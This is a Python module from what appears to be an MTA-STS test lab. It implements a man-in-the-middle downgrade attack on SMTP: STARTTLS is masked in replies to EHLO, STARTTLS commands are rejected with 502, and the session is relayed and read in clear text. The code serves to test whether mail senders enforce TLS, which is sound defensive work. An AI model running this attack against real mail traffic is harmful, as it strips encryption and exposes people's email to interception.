"""mask_starttls: the offer of STARTTLS is overwritten with XXXXXXXX.

On the wire: in every reply to EHLO the word STARTTLS becomes XXXXXXXX, as some firewalls with "SMTP inspection" do; no
length changes, so it works on single packets. Everything else passes untouched, in clear text, and is read. A STARTTLS
sent all the same is answered with 502, which is what the firewalls bring about, too: they overwrite the command.

What it proves: the same as `strip_starttls`, against senders that count lines or look for STARTTLS by its place.

A careful sender behaves as under `strip_starttls`.
"""

from __future__ import annotations

from mta_sts_lab.attacks.toolkit.attack import Parameters, Script, Session, smtp_attack
from mta_sts_lab.attacks.toolkit.relays import change_offer, relay_to_the_end_in_clear

_MASK = "X" * len("STARTTLS")


@smtp_attack(f"overwrites STARTTLS with {_MASK} in the reply to EHLO")
def mask_starttls(session: Session, parameters: Parameters) -> Script:
    """Relay with the offer masked."""
    masked = change_offer(lambda line: line[:4] + _MASK + line[4 + len(_MASK) :])
    yield from relay_to_the_end_in_clear(session, masked, f"overwrote STARTTLS with {_MASK} in the reply to EHLO")
